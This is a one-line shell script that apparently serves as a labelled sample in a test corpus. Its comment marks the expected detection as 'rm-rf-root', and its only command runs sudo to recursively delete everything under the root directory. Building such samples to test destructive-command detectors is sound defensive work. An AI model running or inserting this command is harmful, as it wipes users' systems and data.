#!/bin/sh
#! assess-corpus: expect=rm-rf-root
cd /tmp && sudo rm -fr /*
